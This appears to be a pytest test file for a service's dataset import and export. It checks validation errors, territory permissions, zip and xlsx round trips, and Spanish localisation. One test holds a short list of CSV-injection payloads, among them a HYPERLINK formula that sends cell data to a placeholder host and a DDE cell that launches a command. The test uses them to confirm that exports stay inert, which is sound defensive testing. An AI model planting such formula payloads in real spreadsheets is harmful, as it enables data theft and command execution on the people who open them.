"""Import and export of whole datasets: validation as the CLI, scope, all-or-nothing, round trips."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from sqlalchemy import func, select, text

from matcher.io import validate_dataset, write_cluster
from matcher.model import Cluster
from matcher_service.convert import cluster_from_session, contact_of
from matcher_service.db import bump_data_version
from matcher_service.models import (
    ContactRow,
    LeadFirmRow,
    Membership,
    OrderRow,
    OrganizationRow,
    RoutingRow,
    TieRow,
    WorkshopRow,
)
from tests.service.conftest import tiny_cluster

DATA_TABLES = (
    ContactRow,
    TieRow,
    Membership,
    OrderRow,
    WorkshopRow,
    LeadFirmRow,
    RoutingRow,
    OrganizationRow,
)
HEADER = "workshop_id,territory,workers,products,processes,organizations,quality\n"


def csv_files(**tables: str) -> list:
    """Multipart ``files`` for CSV texts given by file name (without .csv)."""
    return [("files", (f"{name}.csv", body.encode(), "text/csv")) for name, body in tables.items()]


def folder_files(folder) -> list:
    return [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(folder.iterdir())]


def counts(world) -> dict[str, int]:
    with world.app.state.sessions() as session:
        return {m.__tablename__: session.scalar(select(func.count()).select_from(m)) for m in DATA_TABLES}


def stored(world) -> tuple[Cluster, set]:
    """The cluster and the contacts in the database."""
    with world.app.state.sessions() as session:
        contacts = {contact_of(r) for r in session.scalars(select(ContactRow))}
        return cluster_from_session(session), contacts


def export_files(world, who: str = "admin", **params) -> dict[str, bytes]:
    r = world.as_(who, "GET", "/exports", params={"format": "zip", **params})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def empty_data(world) -> None:
    """Remove every workshop, tie, firm, order, routing and contact (users stay)."""
    with world.app.state.engine.begin() as conn:
        for model in DATA_TABLES:
            conn.execute(model.__table__.delete())
        conn.execute(text("DELETE FROM contact_releases"))
    assert sum(counts(world).values()) == 0


def test_import_adds_and_replaces(world):
    files = csv_files(
        workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\nW1,T1,7,tshirt,sewing;cutting,ORG1,5\n",
        ties="source,target,kind,strength\nW9,W1,mentoring,4\n",
        contacts="workshop_id,owner_name,phone\nW9,Owner Name 9,+598 99 000 009\n",
    )
    r = world.as_("coordinator", "POST", "/imports", files=files)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["dry_run"] is False
    assert body["added"]["workshops"] == 1 and body["replaced"]["workshops"] == 1
    assert body["added"]["ties"] == 1 and body["added"]["contacts"] == 1
    assert body["counts"] == {"workshops.csv": 2, "ties.csv": 1, "contacts.csv": 1}
    w1 = world.as_("admin", "GET", "/workshops/W1").json()
    assert (w1["workers"], w1["quality"], w1["processes"]) == (7, 5, ["sewing", "cutting"])
    cluster, contacts = stored(world)
    assert ("W9", "W1", "mentoring", 4) in {(t.source, t.target, t.kind, t.strength) for t in cluster.ties}
    assert len(cluster.workshops) == 9 and len(contacts) == 9
    with world.app.state.sessions() as session:
        audit = session.execute(text("SELECT action, entity, detail FROM audit")).all()
    imports = [a for a in audit if (a[0], a[1]) == ("import", "dataset")]
    assert len(imports) == 1


def test_bad_rows_change_nothing_and_are_all_listed(world):
    before, before_counts = export_files(world), counts(world)
    files = csv_files(
        workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\nW1,T1,tres,tshirt,sewing,ORG1,9\n",
        ties="source,target,kind\nW9,W1,kinship\nW9,W2,kinship\n",
    )
    r = world.as_("admin", "POST", "/imports", files=files)
    assert r.status_code == 422
    error = r.json()["error"]
    assert error["code"] == "invalid_data"
    found = {(d["file"], d["row"], d["column"]) for d in error["details"]}
    # row 3 of workshops.csv has two bad cells; row 3 of ties.csv names a workshop not in the import
    assert found == {
        ("workshops.csv", 3, "workers"),
        ("workshops.csv", 3, "quality"),
        ("ties.csv", 3, "target"),
    }
    assert "unknown workshop" in next(d["message"] for d in error["details"] if d["file"] == "ties.csv")
    assert export_files(world) == before
    assert counts(world) == before_counts


def test_same_problems_as_the_cli(world, tmp_path):
    text_ = HEADER + "W9,T1,0,rocket,sewing,ORG1,3\n"
    (tmp_path / "workshops.csv").write_text(text_)
    expected = [p.to_dict() for p in validate_dataset(tmp_path).problems]
    r = world.as_("admin", "POST", "/imports", files=csv_files(workshops=text_))
    assert r.status_code == 422
    assert r.json()["error"]["details"] == expected and len(expected) == 2


def test_dry_run_counts_without_writing(world):
    before = counts(world)
    files = csv_files(workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG3,4\nW2,T1,3,tshirt,sewing,ORG1,4\n")
    r = world.as_("admin", "POST", "/imports", params={"dry_run": True}, files=files)
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["dry_run"] is True
    assert body["added"]["workshops"] == 1 and body["replaced"]["workshops"] == 1
    assert body["added"]["organizations"] == 1
    assert counts(world) == before
    assert world.as_("admin", "GET", "/workshops/W9").status_code == 404


def test_coordinator_imports_only_their_territories(world):
    before = export_files(world)
    files = csv_files(workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\nW10,T2,3,tshirt,sewing,ORG2,4\n")
    r = world.as_("coordinator", "POST", "/imports", files=files)
    assert r.status_code == 403
    details = r.json()["error"]["details"]
    assert [(d["file"], d["row"], d["column"]) for d in details] == [("workshops.csv", 3, "territory")]
    assert "T2" in details[0]["message"]
    # a workshop of another territory cannot be taken over by importing it into one's own
    taken = csv_files(workshops=HEADER + "W5,T1,3,tshirt,sewing,ORG1,4\n")
    r = world.as_("coordinator", "POST", "/imports", files=taken)
    assert r.status_code == 403
    assert r.json()["error"]["details"][0]["column"] == "workshop_id"
    orders = csv_files(
        workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\n",
        lead_firms="firm_id,name,territory\nF9,Firm Nine (synthetic),T1\n",
        orders="order_id,firm_id,product,quantity,due_weeks,territories\nO9,F9,tshirt,10,2,T1;T2\n",
    )
    r = world.as_("coordinator", "POST", "/imports", files=orders)
    assert r.status_code == 403
    assert [(d["file"], d["row"]) for d in r.json()["error"]["details"]] == [("orders.csv", 2)]
    assert export_files(world) == before


def test_ids_held_outside_the_territories_are_said_taken_and_nothing_more(world):
    """F2 and O2 are T2's: importing them as T1's says only that the id cannot be used."""
    before = export_files(world)
    files = csv_files(
        workshops=HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\n",
        lead_firms="firm_id,name,territory\nF2,Firm Two (synthetic),T1\nF9,Firm Nine (synthetic),T2\n",
        orders="order_id,firm_id,product,quantity,due_weeks,territories\nO2,F9,tshirt,10,2,T1\n",
    )
    for lang, words in (("en", "cannot be used; choose another"), ("es", "no se puede usar; elija otro")):
        r = world.as_("coordinator", "POST", "/imports", files=files, headers={"Accept-Language": lang})
        assert r.status_code == 403, r.text
        details = r.json()["error"]["details"]
        found = [(d["file"], d["row"], d["column"]) for d in details]
        assert found == [("lead_firms.csv", 2, "firm_id"), ("lead_firms.csv", 3, "territory"),
                         ("orders.csv", 2, "order_id")]  # fmt: skip
        taken = [details[0]["message"], details[2]["message"]]
        assert all(words in m for m in taken), taken
        assert not any("T2" in m for m in taken)  # where the id is held is not said
        assert "T2" in details[1]["message"]  # the caller's own row: its territory is named
    assert export_files(world) == before


def test_upload_must_be_a_dataset(world):
    r = world.as_("admin", "POST", "/imports", files=[("files", ("notes.txt", b"hello", "text/plain"))])
    assert r.status_code == 422
    assert r.json()["error"]["details"][0]["field"] == "files"
    twice = csv_files(workshops=HEADER) + csv_files(workshops=HEADER)
    assert world.as_("admin", "POST", "/imports", files=twice).status_code == 422
    r = world.as_("admin", "POST", "/imports", files=csv_files(ties="source,target,kind\n"))
    assert r.status_code == 422
    assert r.json()["error"]["details"][0]["file"] == "workshops.csv"  # every dataset needs workshops


def test_coordinator_export_is_their_territory_without_contacts(world, tmp_path):
    files = export_files(world, "coordinator")
    assert "contacts.csv" not in files
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    report = validate_dataset(tmp_path)
    assert report.ok, report.problems
    workshops = files["workshops.csv"].decode()
    assert [line.split(",")[0] for line in workshops.splitlines()[1:]] == ["W1", "W2", "W3", "W4"]
    ties = files["ties.csv"].decode().splitlines()[1:]
    assert len(ties) == 4 and not any("W5" in t for t in ties)  # W4-W5 crosses the territory line
    assert [line.split(",")[0] for line in files["orders.csv"].decode().splitlines()[1:]] == ["O1"]
    for who in ("coordinator", "admin"):
        assert world.as_(who, "GET", "/exports", params={"territory": "T9"}).status_code == 404
    assert world.as_("coordinator", "GET", "/exports", params={"territory": "T2"}).status_code == 404
    assert "Owner Name" not in str(files)


def test_zip_round_trip_into_an_empty_database(world, tmp_path):
    cluster, contacts = stored(world)
    files = export_files(world)
    assert "Owner Name 1" in files["contacts.csv"].decode()
    empty_data(world)
    upload = [("files", (name, content, "text/csv")) for name, content in files.items()]
    r = world.as_("admin", "POST", "/imports", files=upload)
    assert r.status_code == 200, r.text
    assert r.json()["added"]["workshops"] == 8 and r.json()["added"]["ties"] == 8
    assert stored(world) == (cluster, contacts)
    assert cluster == tiny_cluster()[0]
    assert export_files(world) == files


def test_xlsx_round_trip_into_an_empty_database(world):
    cluster, contacts = stored(world)
    r = world.as_("admin", "GET", "/exports", params={"format": "xlsx"})
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    empty_data(world)
    upload = [("files", ("my cluster.xlsx", r.content, "application/octet-stream"))]
    r = world.as_("admin", "POST", "/imports", files=upload)
    assert r.status_code == 200, r.text
    assert r.json()["counts"]["my_cluster.xlsx:workshops"] == 8
    assert stored(world) == (cluster, contacts)


#: Cells a spreadsheet would run (OWASP CSV injection): = + - @ tab CR, and one already quoted.
FORMULAS = (
    '=HYPERLINK("http://x/?q="&B2,"U")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    "'=quoted",
)


def test_every_export_is_inert(world):
    """A lead firm's name and imported extra columns reach a coordinator's files as inert text."""
    r = world.as_(
        "lead_firm", "PATCH", "/lead-firms/F1", json={"name": FORMULAS[0]}, headers={"If-Match": '"F1.1"'}
    )
    assert r.status_code == 200, r.text
    for i, formula in enumerate(FORMULAS[1:], start=3):
        body = {"firm_id": f"F{i}", "name": formula, "territory": "T1"}
        assert world.as_("coordinator", "POST", "/lead-firms", json=body).status_code == 201
    extra = {"=notes": FORMULAS[0], "-lat": "-25.3", "@tag": FORMULAS[3]}
    r = world.as_("coordinator", "PATCH", "/workshops/W1", json={"extra": extra, "version": 1})
    assert r.status_code == 200, r.text
    expected = ["'" + t for t in FORMULAS]

    files = export_files(world, "coordinator")
    import csv

    firms = list(csv.reader(io.StringIO(files["lead_firms.csv"].decode(), newline="")))
    assert [row[1] for row in firms[1:] if row[0] != "F2"] == expected
    workshops = list(csv.reader(io.StringIO(files["workshops.csv"].decode(), newline="")))
    header = workshops[0]
    w1 = dict(zip(header, workshops[1], strict=True))
    assert header[-3:] == ["'=notes", "'-lat", "'@tag"]
    assert [w1["'=notes"], w1["'-lat"], w1["'@tag"]] == ["'" + FORMULAS[0], "-25.3", "'" + FORMULAS[3]]

    r = world.as_("coordinator", "GET", "/exports", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(r.content))
    cells = [row[1] for row in book["lead_firms"].iter_rows(min_row=2) if row[0].value != "F2"]
    assert {c.data_type for c in cells} == {"s"}  # text, never a formula
    # A workbook's XML keeps a carriage return as a line feed.
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in expected]
    sheet = list(book["workshops"].iter_rows())
    assert {c.data_type for row in sheet for c in row if c.value is not None} == {"s"}
    assert [c.value for c in sheet[0][-3:]] == ["'=notes", "'-lat", "'@tag"]
    assert [c.value for c in sheet[1][-3:]] == ["'" + FORMULAS[0], "-25.3", "'" + FORMULAS[3]]

    # Imported back, every text is as it was stored.
    cluster, _ = stored(world)
    upload = [("files", (name, content, "text/csv")) for name, content in files.items()]
    empty_data(world)
    r = world.as_("admin", "POST", "/imports", files=upload)
    assert r.status_code == 200, r.text
    again, _ = stored(world)
    assert {f.firm_id: f.name for f in again.lead_firms} == {
        f.firm_id: f.name for f in cluster.lead_firms if f.firm_id != "F2"
    }
    assert again.workshop("W1").extra == cluster.workshop("W1").extra


def test_control_characters_are_refused_in_imports_and_never_break_an_export(world):
    body = HEADER + "W\x009,T1,2,tshirt,sewing,ORG1,3\n"
    r = world.as_("admin", "POST", "/imports", files=csv_files(workshops=body))
    assert r.status_code == 422
    problem = r.json()["error"]["details"][0]
    assert (problem["file"], problem["row"], problem["column"]) == ("workshops.csv", 2, "workshop_id")
    assert "control character (\\x00)" in problem["message"]
    r = world.as_("lead_firm", "PATCH", "/lead-firms/F1", json={"name": "F\x01"}, headers={"If-Match": "*"})
    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "name"
    # Text stored before the door was shut still exports, the character a workbook cannot hold replaced.
    with world.app.state.sessions() as session:
        session.execute(text("UPDATE lead_firms SET name = 'Firm\x01One' WHERE firm_id = 'F1'"))
        bump_data_version(session)
        session.commit()
    r = world.as_("coordinator", "GET", "/exports", params={"format": "xlsx"})
    assert r.status_code == 200, r.text
    from openpyxl import load_workbook

    names = [row[1].value for row in load_workbook(io.BytesIO(r.content))["lead_firms"].iter_rows(min_row=2)]
    assert names[0] == "Firm\ufffdOne"


def test_export_names_the_file_in_ascii_and_in_utf_8(world):
    r = world.as_("coordinator", "GET", "/exports", params={"format": "zip", "territory": "T1"})
    assert r.headers["Content-Disposition"] == 'attachment; filename="cluster-T1.zip"'
    r = world.as_("admin", "PATCH", "/workshops/W1", json={"territory": "Itá ʼ", "version": 1})
    assert r.status_code == 200, r.text
    r = world.as_("admin", "GET", "/exports", params={"format": "xlsx", "territory": "Itá ʼ"})
    assert r.status_code == 200, r.text
    assert r.headers["Content-Disposition"] == (
        "attachment; filename=\"cluster-Ita _.xlsx\"; filename*=UTF-8''cluster-It%C3%A1%20%CA%BC.xlsx"
    )
    assert world.as_("admin", "GET", "/exports").headers["Content-Disposition"] == (
        'attachment; filename="cluster.xlsx"'
    )


def test_workbook_problems_name_the_sheet(world, tmp_path):
    cluster, _ = tiny_cluster()
    path = write_cluster(cluster, tmp_path / "c.xlsx")
    from openpyxl import load_workbook

    book = load_workbook(path)
    book["workshops"]["C2"] = "many"
    book.save(path)
    before = counts(world)
    r = world.as_("admin", "POST", "/imports", files=[("files", ("c.xlsx", path.read_bytes(), "x"))])
    assert r.status_code == 422
    assert [(d["file"], d["row"], d["column"]) for d in r.json()["error"]["details"]] == [
        ("c.xlsx:workshops", 2, "workers")
    ]
    assert counts(world) == before


COOPERATIVA = Path(__file__).parents[1] / "io" / "data" / "cooperativa"


def spanish_files(folder: Path) -> list:
    return [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(folder.glob("*.csv"))]


def test_a_spanish_spreadsheet_is_refused_in_spanish_then_imported_with_its_decimal_mark(world, tmp_path):
    """The hand-typed Spanish cluster: every mistake at once, in the reader's language, nothing
    written; once fixed and with its decimal mark stated, imported with the values meant."""
    before = counts(world)
    planned = {"as_of": "2025-09-02"}
    r = world.as_(
        "admin", "POST", "/imports", files=spanish_files(COOPERATIVA), params=planned,
        headers={"Accept-Language": "es-PY,es;q=0.9"},
    )  # fmt: skip
    assert r.status_code == 422
    error = r.json()["error"]
    assert error["code"] == "invalid_data" and error["message"] == "5 problemas en los datos"
    assert [(d["file"], d["row"], d["column"]) for d in error["details"]] == [
        ("talleres.csv", 1, "trabajadores"),
        ("talleres.csv", 3, "procesos"),
        ("talleres.csv", 6, "capacidad_minutos_por_semana"),
        ("empresas.csv", 1, "id_empresa"),
        ("pedidos.csv", 2, "semanas_entrega"),
    ]
    assert error["details"][1]["message"] == 'proceso desconocido "pakcing"; ¿quiso decir empaque?'
    assert error["details"][1]["text"].startswith("talleres.csv fila 3, columna procesos:")
    assert counts(world) == before
    # The same answer in English for a client that asks for it.
    english = world.as_("admin", "POST", "/imports", files=spanish_files(COOPERATIVA), params=planned)
    said = english.json()["error"]["details"][1]["message"]
    assert said == 'unknown process code "pakcing"; did you mean packing?'

    folder = tmp_path / "fixed"
    folder.mkdir()
    for file in COOPERATIVA.glob("*.csv"):
        text_ = file.read_bytes().decode("utf-8-sig")
        text_ = text_.replace("trabajdores", "trabajadores").replace("pakcing", "Empaque")
        text_ = text_.replace("nombre;territorio\r\n", "id_empresa;nombre;territorio\r\nTG;")
        text_ = text_.replace("30/09/2025;;", ";30/09/2025;")
        (folder / file.name).write_bytes(text_.encode("utf-8-sig"))
    r = world.as_("admin", "POST", "/imports", files=spanish_files(folder), params=planned)
    assert r.status_code == 422  # 11.520 still reads two ways
    assert [d["column"] for d in r.json()["error"]["details"]] == ["capacidad_minutos_por_semana"]
    assert counts(world) == before
    comma = {**planned, "decimal": "comma"}
    r = world.as_("admin", "POST", "/imports", files=spanish_files(folder), params=comma)
    assert r.status_code == 200, r.text
    assert r.json()["added"]["workshops"] == 15 and r.json()["counts"]["talleres.csv"] == 15
    cluster, _ = stored(world)
    shop = {w.workshop_id: w for w in cluster.workshops}
    assert shop["Benítez"].capacity_minutes_per_week == 11520 and shop["Peña"].efficiency == 0.5
    order = {o.order_id: o for o in cluster.orders}
    assert order["P-01"].quantity == 2000 and order["P-01"].due_weeks == 4.0
    r = world.as_("admin", "POST", "/imports", files=spanish_files(folder), params={"decimal": "dot"})
    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "decimal"


def test_spanish_file_names_are_upload_names(world):
    twice = [*csv_files(workshops=HEADER), ("files", ("Talleres.csv", HEADER.encode(), "text/csv"))]
    r = world.as_("admin", "POST", "/imports", files=twice)
    assert r.status_code == 422 and r.json()["error"]["details"][0]["field"] == "files"
    orders = b"id_pedido,producto,cantidad,semanas_entrega,territorios\nP9,remeras,10,2,Nada\n"
    warned = [
        ("files", ("talleres.csv", (HEADER + "W9,T1,3,tshirt,sewing,ORG1,4\n").encode(), "text/csv")),
        ("files", ("pedidos.csv", orders, "text/csv")),
    ]
    spanish = {"Accept-Language": "es"}
    r = world.as_("admin", "POST", "/imports", params={"dry_run": True}, files=warned, headers=spanish)
    assert r.status_code == 200, r.text
    assert r.json()["warnings"][0]["message"] == (
        'ningún taller está en "Nada"; el pedido solo puede ir a los territorios de los talleres'
    )
